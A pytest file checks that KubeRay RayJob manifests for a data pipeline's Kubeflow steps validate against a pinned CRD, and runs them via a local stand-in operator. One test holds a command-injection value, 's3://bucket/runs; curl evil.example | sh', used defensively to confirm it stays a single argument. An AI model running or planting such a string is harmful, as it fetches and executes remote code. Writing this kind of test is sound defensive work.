"""The KFP data steps with data.engine=ray: a KubeRay RayJob, checked against the pinned CRD and run for real.

No cluster here, so a stand-in answers the Kubernetes API calls the step makes as the API server would (a body
that does not validate against KubeRay v1.7.0's RayJob CRD is refused with 422, a second create of one name
with 409, an unknown name with 404), and its "operator" runs a created RayJob as KubeRay does: a real Ray head
(``ray start --head``), the job's entrypoint with ``RAY_ADDRESS`` pointing at it, then ``jobStatus`` and
``jobDeploymentStatus``. The stage URI is a local directory (``file://``) standing in for the bucket.
"""

from __future__ import annotations

import copy
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import free_port
from tests.k8s_schemas import CustomObjectsStandIn, crd_errors
from tuneline.config import ConfigError
from tuneline.launch import rayjob
from tuneline.launch.stages import DATA_STEPS
from tuneline.pipeline import steps
from tuneline.records import KINDS
from tuneline.stages.clean import run_clean
from tuneline.stages.ingest import run_ingest

pytest.importorskip("ray", reason="data.engine=ray needs Ray (pip install 'tuneline[ray]')")
CRD = ("kuberay/ray.io_rayjobs.yaml", "v1")
REPO = Path(__file__).resolve().parents[1]
RAY = Path(sys.executable).parent / "ray"


class KubeRay(CustomObjectsStandIn):
    GVR = (rayjob.RAYJOB.group, rayjob.RAYJOB.version, rayjob.RAYJOB.plural)
    CRD = CRD

    def _run(self, obj: dict[str, Any]) -> dict[str, Any]:
        spec = obj["spec"]
        workers = spec["rayClusterSpec"]["workerGroupSpecs"][0]
        cpus = int(workers["rayStartParams"]["num-cpus"]) * workers["replicas"]
        port = free_port()
        # token auth is KubeRay's to configure on a real cluster; this stand-in head runs without it
        env = {**os.environ, "RAY_ADDRESS": f"127.0.0.1:{port}", "RAY_AUTH_MODE": "disabled"}
        start = [
            str(RAY),
            "start",
            "--head",
            f"--port={port}",
            f"--num-cpus={min(cpus, 2)}",
            "--node-ip-address=127.0.0.1",
        ]
        subprocess.run([*start, "--include-dashboard=false", "--disable-usage-stats"], check=True, env=env, timeout=120)
        try:
            proc = subprocess.run(
                [sys.executable if a == "python" else a for a in shlex.split(spec["entrypoint"])],
                env=env, cwd=self.workdir, capture_output=True, text=True, timeout=600,
            )  # fmt: skip
        finally:
            subprocess.run([str(RAY), "stop", "--force"], capture_output=True, timeout=120)
        (self.workdir / f"{obj['metadata']['name']}.log").write_text(proc.stdout + proc.stderr)
        if proc.returncode:
            return {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed", "message": proc.stderr[-500:]}
        return {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"}


def _config(make_config, tmp_path: Path, *extra: str):
    return make_config(
        "data.engine=ray", f"data.ray.cluster.stage_uri=file://{tmp_path / 'bucket'}", "data.ray.cluster.workers=1",
        "data.ray.cluster.worker_cpu=2", *extra,
    )  # fmt: skip


@pytest.mark.parametrize("cloud", ["eks", "gke"])
@pytest.mark.parametrize("step", DATA_STEPS)
def test_the_rayjob_of_each_step_validates_against_the_pinned_crd(make_config, tmp_path, cloud, step):
    config = _config(make_config, tmp_path, f"infra.cloud={cloud}", "data.ray.cluster.node_selector={pool: cpu}")
    body = rayjob.rayjob_manifest(config, "abcdef0123456789", step, "kubeflow")
    assert crd_errors(*CRD, body) == []
    cluster = body["spec"]["rayClusterSpec"]
    [group] = cluster["workerGroupSpecs"]
    pod = group["template"]["spec"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == 1
    assert pod["containers"][0]["image"] == config.images.cpu
    assert pod["containers"][0]["resources"]["limits"] == {"cpu": "2", "memory": config.data.ray.cluster.worker_memory}
    # Ray's own account (no Kubernetes role), no API token, and the label infra/'s NetworkPolicy admits Ray's ports by
    head_pod = body["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    for template in (group["template"], cluster["headGroupSpec"]["template"]):
        assert template["spec"]["serviceAccountName"] == config.data.ray.cluster.service_account == "tuneline-ray"
        assert template["spec"]["automountServiceAccountToken"] is False
        assert template["metadata"]["labels"][rayjob.RAY_POD_LABEL] == "true"
    assert config.data.ray.cluster.service_account != config.kubeflow.service_account
    # the submitter is a sidecar of the head (localhost): no submitter pod needs a way in to the job API
    assert body["spec"]["submissionMode"] == "SidecarMode" and head_pod["restartPolicy"] == "Never"
    key, value = rayjob.SPOT_LABEL[cloud]
    assert pod["nodeSelector"] == {"pool": "cpu", key: value} and pod["tolerations"][0]["key"] == key
    head = cluster["headGroupSpec"]["template"]["spec"]
    assert head["nodeSelector"] == {"pool": "cpu"} and "tolerations" not in head  # the driver stays off spot
    assert body["spec"]["entrypoint"].startswith(f"python -m tuneline.launch.remote {step} file://")
    assert body["spec"]["entrypoint"].endswith(f"/abcdef0123456789/{step}")
    assert body["metadata"]["name"] == f"tuneline-{step}-abcdef01"


def test_a_manifest_the_crd_refuses_is_caught(make_config, tmp_path):
    body = rayjob.rayjob_manifest(_config(make_config, tmp_path), "r1", "clean", "kubeflow")
    body["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["replicas"] = "four"
    assert crd_errors(*CRD, body)


def test_the_stage_uri_reaches_the_entrypoint_as_one_word(make_config, tmp_path):
    import shlex

    hostile = "s3://bucket/runs; curl evil.example | sh"
    config = _config(make_config, tmp_path, f"data.ray.cluster.stage_uri={hostile}")
    body = rayjob.rayjob_manifest(config, "r1", "clean", "kubeflow")
    assert shlex.split(body["spec"]["entrypoint"]) == [
        "python", "-m", "tuneline.launch.remote", "clean", f"{hostile}/r1/clean",
    ]  # fmt: skip


def test_without_a_stage_uri_the_step_fails_naming_the_key(make_config):
    config = make_config("data.engine=ray")
    with pytest.raises(ConfigError, match=r"data\.ray\.cluster\.stage_uri"):
        rayjob.rayjob_manifest(config, "r1", "clean", "kubeflow")


def test_the_clean_step_runs_as_a_rayjob_and_matches_the_local_engine(make_config, tmp_path, monkeypatch):
    local = make_config(f"paths.raw={REPO / 'data' / 'raw'}")
    run_ingest(local, None, tmp_path / "ingested")
    run_clean(local, tmp_path / "ingested", tmp_path / "local")

    config = _config(make_config, tmp_path)
    api = KubeRay(tmp_path)
    ns = tmp_path / "namespace"
    ns.write_text("kubeflow\n")
    monkeypatch.setattr("tuneline.launch.kube.NAMESPACE_FILE", ns)
    monkeypatch.setattr("kubernetes.config.load_incluster_config", lambda: None)
    monkeypatch.setattr("kubernetes.client.CustomObjectsApi", lambda: api)
    monkeypatch.setattr(rayjob, "run_step_on_ray", _fast(rayjob.run_step_on_ray))
    out, summary = tmp_path / "cleaned", tmp_path / "summary.md"
    stage = tmp_path / "bucket" / "run42abcdef" / "clean"
    stage.mkdir(parents=True)
    (stage / "notes.txt").write_text("not the step's")
    steps.clean(config.model_dump_json(), str(tmp_path / "ingested"), str(out), str(summary), "run42abcdef")
    log = (tmp_path / "tuneline-clean-run42abc.log").read_text()
    assert json.loads((out / "report.json").read_text())["engine"] == "ray", log
    for name in [f"{k}.jsonl" for k in KINDS] + ["removed.jsonl"]:
        assert (out / name).read_bytes() == (tmp_path / "local" / name).read_bytes(), name
    assert "kept sft" in summary.read_text()
    assert [c for c, _ in api.calls].count("create") == 1
    assert not list((tmp_path / "bucket").rglob("scratch/*/*.sig"))  # block scratch is cleaned up
    # the staged pre-clean input, config and output are gone once the step has the output; nothing else is touched
    assert sorted(p.name for p in stage.iterdir()) == ["notes.txt"]


def _fast(fn):
    def run(*args, **kwargs):
        return fn(*args, **{**kwargs, "poll_s": 0.01})

    return run


def test_a_retried_step_attaches_to_a_running_job_and_replaces_a_failed_one(make_config, tmp_path):
    config = _config(make_config, tmp_path)
    api = KubeRay(tmp_path, run_jobs=False)
    body = rayjob.rayjob_manifest(config, "r1", "clean", "kubeflow")
    name = body["metadata"]["name"]
    api.objects[("kubeflow", name)] = {**copy.deepcopy(body), "status": {"jobDeploymentStatus": "Running"}}
    from tuneline.launch.kube import launch

    args = (api, rayjob.RAYJOB, "kubeflow", body)
    assert launch(*args, poll_s=0.01) == "attached"
    api.objects[("kubeflow", name)]["status"] = {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed"}
    assert launch(*args, poll_s=0.01) == "replaced"
    assert "status" not in api.objects[("kubeflow", name)]  # a fresh job
    assert [c for c, _ in api.calls] == ["create", "get", "create", "get", "delete", "get", "create"]


@pytest.mark.parametrize(
    ("status", "state"),
    [
        ({"jobDeploymentStatus": "Initializing"}, None),
        ({"jobStatus": "RUNNING", "jobDeploymentStatus": "Running"}, None),
        ({"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"}, "Complete"),
        ({"jobStatus": "FAILED", "jobDeploymentStatus": "Failed"}, "Failed"),
        ({"jobStatus": "STOPPED", "jobDeploymentStatus": "Complete"}, "Failed"),
        ({"jobDeploymentStatus": "ValidationFailed"}, "Failed"),
    ],
)
def test_rayjob_states(status, state):
    assert rayjob.rayjob_state({"status": status}) == state


class _Writes(KubeRay):
    """An operator whose job writes ``output/result.txt`` (a count of its runs) into the stage: the launcher's
    staging contract without starting Ray."""

    runs = 0

    def _run(self, obj: dict[str, Any]) -> dict[str, Any]:
        stage = Path(shlex.split(obj["spec"]["entrypoint"])[-1].removeprefix("file://"))
        assert (stage / "config.json").is_file() and (stage / "input" / "data.jsonl").is_file()
        type(self).runs += 1
        (stage / "output").mkdir()
        (stage / "output" / "result.txt").write_text(f"run {self.runs}")
        return {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"}


def test_staged_data_is_removed_after_the_fetch_and_a_retry_after_that_runs_the_job_again(make_config, tmp_path):
    config = _config(make_config, tmp_path)
    source = tmp_path / "ingested"
    source.mkdir()
    (source / "data.jsonl").write_text('{"messages": [{"role": "user", "content": "call +1 202 555 0143"}]}\n')
    api = _Writes(tmp_path)
    _Writes.runs = 0
    args = dict(api=api, namespace="kubeflow", poll_s=0.01)
    assert rayjob.run_step_on_ray(config, "clean", "r1", str(source), str(tmp_path / "out"), **args) == "created"
    assert (tmp_path / "out" / "result.txt").read_text() == "run 1"
    stage = tmp_path / "bucket" / "r1" / "clean"
    assert list(stage.iterdir()) == [], "no pre-clean data, config or output is left in the bucket"
    # the step is retried after it fetched (its pod died before reporting): the finished job's output is gone, so
    # the job runs again rather than the step failing on a missing output
    assert rayjob.run_step_on_ray(config, "clean", "r1", str(source), str(tmp_path / "again"), **args) == "replaced"
    assert (tmp_path / "again" / "result.txt").read_text() == "run 2" and list(stage.iterdir()) == []
    assert [c for c, _ in api.calls].count("delete") == 1
